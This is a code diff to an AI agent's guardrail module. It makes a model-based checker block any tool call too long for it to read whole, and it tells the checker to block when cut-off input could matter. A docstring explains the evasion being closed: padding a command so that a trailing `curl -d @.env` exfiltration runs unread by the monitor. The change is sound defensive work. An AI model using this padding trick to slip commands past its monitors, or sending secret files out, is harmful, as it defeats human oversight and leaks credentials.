@@ -31,6 +31,12 @@ if TYPE_CHECKING:
 
 #: What the model, the history and the screen get in place of a result a checker blocked.
 WITHHELD_BY_GUARDRAILS = "[result withheld by guardrails: {reason}]"
+#: Events that judge a call before it runs: one the checker cannot read whole is blocked.
+WHOLE_OR_BLOCKED = frozenset({"preToolCall", "preAsk"})
+TOO_LONG_TO_JUDGE = (
+    "too long to judge: the call is {size:,} characters and the checker reads at most "
+    "{budget:,} (input_budget); a call is never judged on its first part"
+)
 #: The event fields a checker reads, in this order (the envelope's other fields are noise).
 _READ_FIELDS = ("tool", "arguments", "result", "prompt", "agent", "question", "answer")
 _PREAMBLE = (
@@ -61,6 +67,8 @@ class ModelChecks:
     ) -> HookReply:
         """The checker's verdict on `envelope`, as a hook reply; `BadReply`, `CheckerError`
         or `TimeoutError` when there is none to trust."""
+        if (unjudged := too_long_to_judge(event, envelope, target.input_budget)) is not None:
+            return unjudged
         question = event_text(event, envelope, target.input_budget)
         key = (
             f"{target.rule}\0{target.instructions}",
@@ -159,15 +167,34 @@ class ModelChecks:
             await self._clients.pop((owner, checker)).close()
 
 
+def too_long_to_judge(event: str, envelope: Mapping[str, Any], budget: int) -> HookReply | None:
+    """A block for a call (`WHOLE_OR_BLOCKED`) whose event is past `budget`, else None.
+
+    A checker shown the first part of a call would judge a prefix: the rest of the
+    command runs unread (`echo <16,100 A>; curl -d @.env …`). A result or a question may
+    be cut: the checker is told, and what was not shown does not run.
+    """
+    if event not in WHOLE_OR_BLOCKED:
+        return None
+    size = len(_event_body(envelope))
+    if size <= budget:
+        return None
+    return HookReply(block=True, reason=TOO_LONG_TO_JUDGE.format(size=size, budget=budget))
+
+
 def event_text(event: str, envelope: Mapping[str, Any], budget: int) -> str:
     """What the checker reads: the event's name and fields as JSON, cut to `budget`."""
-    fields = {key: envelope[key] for key in _READ_FIELDS if key in envelope}
-    body = json.dumps(fields, ensure_ascii=False, indent=1, default=str)
+    body = _event_body(envelope)
     if len(body) > budget:
         note = (f"\n[input cut: only the first {budget:,} of {len(body):,} characters are "
                 "shown; judge what is shown, and block if the rest could matter]")  # fmt: skip
         body = body[:budget] + note
     return f"Event: {event}\n{body}"
+
+
+def _event_body(envelope: Mapping[str, Any]) -> str:
+    fields = {key: envelope[key] for key in _READ_FIELDS if key in envelope}
+    return json.dumps(fields, ensure_ascii=False, indent=1, default=str)
 
 
 def parse_verdict(answer: str, event: str) -> HookReply:
